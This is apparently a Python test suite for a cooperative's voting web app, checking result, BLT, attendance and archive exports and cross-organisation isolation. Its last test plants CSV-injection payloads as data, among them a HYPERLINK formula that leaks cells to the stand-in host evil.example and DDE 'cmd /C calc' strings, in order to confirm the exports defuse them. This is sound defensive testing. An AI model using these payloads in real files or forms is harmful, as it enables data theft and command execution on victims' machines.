"""Exports of an assembly: results of every ballot, BLT recounted by the core, the attendance
register, the archive built in the background, and other organisations kept out."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re

import httpx
import pypdf
from tests.support.factories import close, cooperative, new_ballot, publish
from tests.web.assembly_helpers import as_role, coop_signed_in, post_form
from tests.web.helpers import csrf_token, sign_in
from tests.web.minutes_helpers import demo_assembly_id

from votes.core import tally
from votes.core.formats import parse_blt
from votes.core.results import TallyResult
from votes.db.tables import Ballot, BallotOption, Membership, Person
from votes.services import attendance, exports, organisations, proxies
from votes.services.actors import actor_for
from votes.services.ballots import voting


async def _demo_ids() -> tuple[int, int]:
    assembly_id = await demo_assembly_id()
    stv = (
        await Ballot.select(Ballot.id)
        .where((Ballot.method == "stv") & (Ballot.assembly == assembly_id))
        .first()
    )
    assert stv is not None
    return assembly_id, int(stv["id"])


async def _downloaded_by_a_member(client: httpx.AsyncClient, path: str) -> httpx.Response:
    """The demo's ``path`` as Léa, a member, downloads it (she may: a 200)."""
    await sign_in(client, "lea@demo.votes.invalid")
    response = await client.get(path)
    assert response.status_code == 200
    return response


async def test_results_of_every_ballot_as_csv_and_json(
    client: httpx.AsyncClient, demo: None
) -> None:
    assembly_id, _ = await _demo_ids()
    response = await _downloaded_by_a_member(
        client, f"/o/demo/assemblies/{assembly_id}/results.csv"
    )
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    accounts = {
        r["option"]: r["votes"]
        for r in rows
        if r["question"] == "Approuvez-vous les comptes de l'exercice 2025\u00a0?"
    }
    assert accounts == {"yes": "7", "no": "1", "abstain": "2"}
    assert all(r["verdict"] == "adopted" for r in rows if r["method"] == "majority")
    assert not any("Vote d'essai" in r["question"] for r in rows)  # rehearsals decide nothing
    body = (await client.get(f"/o/demo/assemblies/{assembly_id}/results.json")).json()
    for ballot in body["ballots"]:
        stored = TallyResult.from_json(json.dumps(ballot["result"]))
        assert stored.method == ballot["method"]
    assert {"majority", "stv", "schulze"} <= {b["method"] for b in body["ballots"]}


async def test_the_blt_export_recounted_by_the_core_gives_the_same_result(
    client: httpx.AsyncClient, demo: None
) -> None:
    _, stv_id = await _demo_ids()
    blt = await _downloaded_by_a_member(client, f"/o/demo/ballots/{stv_id}/result.blt")
    election = parse_blt(blt.text)
    row = await Ballot.select(Ballot.result, Ballot.rules).where(Ballot.id == stv_id).first()
    assert row is not None
    stored = TallyResult.from_json(row["result"])
    recount = tally(
        "stv",
        election.candidates,
        election.ballots,
        seats=election.seats,
        **json.loads(row["rules"]),
    )
    # the file names candidates as people read them (labels), never by internal keys
    options = await BallotOption.select(BallotOption.key, BallotOption.label).where(
        BallotOption.ballot == stv_id
    )
    label = {option["key"]: option["label"] for option in options}
    assert set(election.candidates) == set(label.values())
    assert recount.winners == tuple(label[key] for key in stored.winners)
    assert [r.totals for r in recount.rounds] == [
        {label[key]: total for key, total in r.totals.items()} for r in stored.rounds
    ]


async def test_the_attendance_register_lists_members_to_sign(client: httpx.AsyncClient) -> None:
    coop = await cooperative()
    base = coop.assembly_path
    await as_role(client, coop, "facilitator")
    register = await client.get(f"{base}/attendance.csv")
    assert register.status_code == 200
    names = [row["name"] for row in csv.DictReader(io.StringIO(register.text))]
    assert len(names) == 3  # the observer has no voting rights
    pdf = await client.get(f"{base}/attendance.pdf")
    assert pdf.status_code == 200
    text = " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf.content)).pages)
    assert "FEUILLE DE PRÉSENCE" in text.upper()
    flat = " ".join(text.split())
    assert all(name in flat for name in names), (names, flat)
    await as_role(client, coop, "member")
    assert (await client.get(f"{base}/attendance.csv")).status_code == 403


async def test_the_archive_is_built_in_the_background_with_its_progress(
    client: httpx.AsyncClient, demo: None
) -> None:
    assembly_id, _ = await _demo_ids()
    base = f"/o/demo/assemblies/{assembly_id}"
    await sign_in(client, "camille@demo.votes.invalid")
    assert (await client.get(f"{base}/archive.json")).status_code in (200, 404)
    token = await csrf_token(client, f"{base}/archive")
    started = await client.post(f"{base}/archive", data={"_csrf_token": token})
    assert started.status_code == 303
    progress = await client.get(f"{base}/archive", headers={"HX-Request": "true"})
    assert progress.status_code == 200
    assert 'id="archive-progress"' in progress.text
    await asyncio.gather(*exports._RUNNING)
    ready = await client.get(f"{base}/archive")
    assert "archive.json" in ready.text
    archive = (await client.get(f"{base}/archive.json")).json()
    assert archive["format"] == "votes-assembly-archive/1"
    assert len(archive["ballots"]) == await Ballot.count().where(Ballot.assembly == assembly_id)
    secret = [b for b in archive["ballots"] if b["secret"] and b["status"] == "published"]
    assert secret
    assert all(p["voter"] is None for b in secret for p in b["papers"])
    assert any(e["action"] == "ballot.closed" for e in archive["audit"])


async def test_another_organisations_assembly_cannot_be_exported(
    client: httpx.AsyncClient, demo: None
) -> None:
    assembly_id, _ = await _demo_ids()
    coop = await coop_signed_in(client, "facilitator")
    for tail in ("results.csv", "results.json", "attendance.csv", "archive", "minutes"):
        # the foreign assembly id under the coop's own address, then under the demo's
        assert (await client.get(f"{coop.base}/assemblies/{assembly_id}/{tail}")).status_code == 404
        assert (await client.get(f"/o/demo/assemblies/{assembly_id}/{tail}")).status_code == 404


# what members and admins may type, as a spreadsheet would run it
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
COLLEGE = "+Collège"
INSTRUCTIONS = "-2+3+cmd|' /C calc'!A0"
QUESTION = "=1+1 ? Adoptez-vous"
LABEL = "-Contre"


def _inert_cells(text: str, delimiter: str = ",") -> set[str]:
    """Every cell of a CSV, after checking that none would run as a formula (the app's own
    numbers, negative ones too, are numbers)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    cells = {cell for row in rows for cell in row}
    for cell in cells:
        if cell.lstrip(" \n\u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r"-\d+(/\d+)?", cell), f"{cell!r} would run as a formula"
    return cells


async def test_no_csv_export_lets_a_spreadsheet_run_what_someone_typed(
    client: httpx.AsyncClient,
) -> None:
    coop = await cooperative()
    organisation_id, assembly_id = coop.organisation_id, coop.assembly_id
    memberships = {
        row["person"]: row["id"]
        for row in await Membership.select(Membership.id, Membership.person).where(
            Membership.organisation == organisation_id
        )
    }
    member, other = memberships[coop.people["member"]], memberships[coop.people["other"]]
    await Person.update({Person.name: HYPERLINK}).where(Person.id == coop.people["member"])
    await organisations.add_category(await actor_for(organisation_id), CATEGORY)
    college = await organisations.add_college(await actor_for(organisation_id), COLLEGE, "100")
    await Membership.update({Membership.category: CATEGORY, Membership.college: college}).where(
        Membership.id == member
    )
    # the facilitator also keeps the register
    await Membership.update({Membership.is_admin: True}).where(
        Membership.person == coop.people["facilitator"]
    )
    await attendance.check_in(await actor_for(organisation_id), assembly_id, member)
    await proxies.give_proxy(
        await actor_for(organisation_id, other), assembly_id, member, instructions=INSTRUCTIONS
    )
    ballot_id = await new_ballot(
        organisation_id,
        assembly_id,
        QUESTION,
        method="score",
        choices=[("against", LABEL), ("for", "Pour")],
        rules={"scale": [-2, 2]},
        opened=True,
    )
    await voting.cast_vote(ballot_id, member, {"against": -2, "for": 1})
    await close(ballot_id)
    await publish(ballot_id)
    await as_role(client, coop, "facilitator")
    base = f"{coop.base}/assemblies/{assembly_id}"

    results = _inert_cells((await client.get(f"{base}/results.csv")).text)
    assert {"'" + QUESTION, "'" + LABEL, "-2"} <= results  # a negative total stays a number
    result = _inert_cells((await client.get(f"{coop.base}/ballots/{ballot_id}/result.csv")).text)
    assert {"'" + LABEL, "-2"} <= result
    signing_sheet = _inert_cells((await client.get(f"{base}/attendance.csv")).text)
    assert {"'" + HYPERLINK, "'" + CATEGORY, "'" + COLLEGE} <= signing_sheet
    register = _inert_cells((await client.get(f"{base}/attendance/register.csv")).text)
    assert {"'" + HYPERLINK, "'" + INSTRUCTIONS} <= register
    export = await client.get(f"{coop.base}/members/export.csv")
    assert {"'" + HYPERLINK, "'" + CATEGORY, "'" + COLLEGE} <= _inert_cells(export.text, ";")
    row = "\t".join([HYPERLINK, "m@example.org", CATEGORY, "ABCD-EFGH", "http://x/c/1", "2026"])
    codes = await post_form(client, f"{coop.base}/members/codes/csv", {"row": row})
    assert {"'" + HYPERLINK, "'" + CATEGORY} <= _inert_cells(codes.text, ";")
